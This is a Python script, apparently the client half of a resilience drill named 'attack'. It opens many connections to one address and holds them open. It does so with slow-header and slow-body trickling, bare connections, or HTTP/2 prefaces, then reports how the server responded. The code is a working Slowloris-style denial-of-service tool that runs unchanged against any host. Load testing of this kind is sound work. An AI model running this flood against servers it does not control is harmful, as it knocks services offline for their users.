"""The client's side of the drill's scenario "attack": python3 - KIND ADDRESS PORT COUNT SECONDS

Opens so many connections to one address, all of them in three quarters of so many seconds, and goes on with them. What
came of it is printed as JSON: how many connections there were, how many of them the other side ended, with which statuses
they were answered, and how many were open at the end.
"""

import collections
import json
import math
import resource
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
POST = b"POST /echo HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
#: What is said at first, and then again and again.
KINDS = {
    "connections": (b"", b""),
    "slow headers": (b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"x"),
    "slow bodies": (POST, b"x"),
    "HTTP/2": (PREFACE, b""),
}
#: Seconds between the beginnings of two rounds.
PAUSE = 0.5

kind, address, port, count, seconds = sys.argv[1:]
first, then = KINDS[kind]
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

each_round = math.ceil(int(count) * PAUSE / (0.75 * float(seconds)))
deadline = time.monotonic() + float(seconds)
answers = collections.Counter()
connections = []
opened = ended = 0


def begin():
    connection = socket.socket()
    connection.settimeout(2)
    try:
        connection.connect((address, int(port)))
        connection.sendall(first)
    except OSError:
        return None
    connection.setblocking(False)
    return connection


def goes_on(connection):
    """Whether a connection is still of use."""
    try:
        heard = connection.recv(4096)
    except BlockingIOError:
        try:
            connection.send(then)
        except OSError:
            return False
        return True
    except OSError:
        return False
    if heard:
        answers[heard.split(b" ")[1].decode() if heard.startswith(b"HTTP/1.") else "another protocol"] += 1
    return False


while time.monotonic() < deadline:
    start = time.monotonic()
    for _ in range(min(each_round, int(count) - opened)):
        opened += 1
        connection = begin()
        if connection:
            connections.append(connection)
        else:
            ended += 1
    kept = []
    for connection in connections:
        if goes_on(connection):
            kept.append(connection)
        else:
            connection.close()
            ended += 1
    connections = kept
    time.sleep(max(0, min(deadline, start + PAUSE) - time.monotonic()))

print(json.dumps({"opened": opened, "ended": ended, "answers": answers, "open": len(connections)}))
